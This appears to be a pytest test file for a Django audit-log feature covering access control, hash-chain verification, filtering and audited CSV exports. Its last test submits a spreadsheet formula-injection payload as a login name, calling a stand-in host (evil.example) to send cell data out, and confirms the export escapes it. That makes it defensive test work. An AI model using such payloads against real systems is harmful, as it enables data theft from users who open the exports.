"""The stewards' audit log page and export, and the person-level pages that write to the log."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from django.utils import timezone

from backbone.governance import auditing, services
from backbone.governance.models import AuditEvent
from backbone.identity.models import LinkageRun, ReviewPair
from backbone.intake import services as intake
from backbone.partnership.models import Partner
from tests.agreements import covering_agreement
from tests.intake.queued import load_queued_uploads

pytestmark = pytest.mark.django_db

AUDIT = "/governance/audit/"


def signed_in(username: str, *codenames: str) -> Client:
    user = User.objects.create_user(username)
    for codename in codenames:
        user.user_permissions.add(Permission.objects.get(codename=codename))
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def steward() -> Client:
    return signed_in("steward", "view_auditevent")


def test_anonymous_visitors_go_to_sign_in_and_others_get_403():
    assert Client().get(AUDIT)["Location"] == f"/login/?next={AUDIT}"
    assert signed_in("reader", "view_registry").get(AUDIT).status_code == 403
    assert signed_in("reader2", "view_registry").get("/governance/audit.csv").status_code == 403


def test_the_page_says_how_far_the_chain_is_verified(steward):
    for n in range(3):
        services.record("ana", "read", "identity.reviewpair", n, "clerical review")
    page = steward.get(AUDIT).content.decode()
    last = AuditEvent.objects.latest().sequence  # signing up the steward was audited too
    assert f"Verified through #{last}" in page and "Broken" not in page
    assert "clerical review" in page and "identity.reviewpair" in page


def test_the_page_says_where_the_chain_is_broken(steward):
    for n in range(3):
        services.record("ana", "read", "identity.reviewpair", n)
    models.QuerySet.update(AuditEvent.objects.filter(sequence=2), purpose="edited")
    page = steward.get(AUDIT).content.decode()
    assert "Broken at #2" in page and "Verified" not in page
    assert "changed after it was written" in page


def test_filters_and_pages(steward):
    for n in range(60):
        services.record("ana" if n % 2 else "bo", "read", "intake.submission", n)
    first = steward.get(AUDIT, {"actor": "ana"}).content.decode()
    assert "30 events" in first and "Page 1 of 1" not in first
    page = steward.get(AUDIT, {"action": "read", "page": "2"}).content.decode()
    assert "Page 2 of 2" in page and "action=read" in page


def test_the_export_is_audited_and_carries_the_hashes(steward):
    services.record("ana", "read", "identity.reviewpair", 1, "clerical review")
    response = steward.get("/governance/audit.csv", {"actor": "ana"})
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["actor"] for r in rows] == ["ana"]
    assert rows[0]["hash"] == AuditEvent.objects.get(actor="ana").hash
    export = AuditEvent.objects.get(action="export")
    assert (export.actor, export.object_type) == ("steward", "governance.auditevent")
    assert export.detail == {"filters": {"actor": "ana"}, "rows": 1}


@pytest.fixture
def review_pair() -> ReviewPair:
    run = LinkageRun.objects.create(model_version="test")
    return ReviewPair.objects.create(
        run=run, record_a="a", record_b="b", source_a="s", source_b="s", match_probability=0.7
    )


def test_reading_and_deciding_a_review_pair_is_audited(review_pair):
    client = signed_in("reviewer", "review_matches")
    assert client.get(review_pair.get_absolute_url()).status_code == 200
    client.post(review_pair.get_absolute_url(), {"decision": "same"})
    recorded = AuditEvent.objects.filter(object_type="identity.reviewpair").order_by("sequence")
    assert [(e.actor, e.action, e.object_id) for e in recorded] == [
        ("reviewer", "read", str(review_pair.pk)),
        ("reviewer", "change", str(review_pair.pk)),
    ]
    assert recorded[0].purpose == "clerical review of a possible match"
    assert recorded[1].detail == {"decision": "same"}


def test_reading_a_submission_and_downloading_its_report_are_audited(workspace):
    partner = Partner.objects.create(
        slug="tutoring",
        name="Tutoring",
        partner_type="community_organization",
        sectors=["education"],
    )
    covering_agreement(partner, "program_participation")
    client = signed_in("clerk", "view_all_submissions")
    bad = b"local_id,program,start_date\nRB-1,Reading,2025-09-31\n"
    form = {"partner": partner.pk, "contract": "program_participation", "period": "2025-26"}
    client.post("/submissions/upload/", {**form, "file": SimpleUploadedFile("r.csv", bad)})
    load_queued_uploads()
    submission = intake.visible_submissions(User.objects.get(username="clerk")).get()
    client.get(f"/submissions/{submission.pk}/")
    client.get(f"/submissions/{submission.pk}/report.csv")
    recorded = AuditEvent.objects.filter(object_type="intake.submission").order_by("sequence")
    assert [(e.actor, e.action, e.object_id) for e in recorded] == [
        ("clerk", "read", str(submission.pk)),
        ("clerk", "export", str(submission.pk)),
    ]
    assert recorded[0].detail == {"problems": 1}


def test_a_formula_as_sign_in_name_reaches_the_audit_csv_as_text_and_still_verifies(
    steward, tmp_path
):
    """An anonymous visitor picks the name; the steward opens the export in a spreadsheet."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Client().post("/login/", {"username": formula, "password": "wrong"})
    # Failed sign-ins are counted per address and window; the closed window is one event.
    auditing.close_sign_in_windows(timezone.now() + dt.timedelta(days=1))
    response = steward.get("/governance/audit.csv", {"action": "login_failed"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, cells = rows[0], rows[-1]
    assert cells[header.index("object_id")] == "'" + formula
    assert not any(c.startswith(("=", "+", "@")) for row in rows for c in row)
    path = tmp_path / "audit.csv"
    services.export_file(path)  # the whole log, with the visitor's name in it, verifies
    assert services.verify_file(path).ok
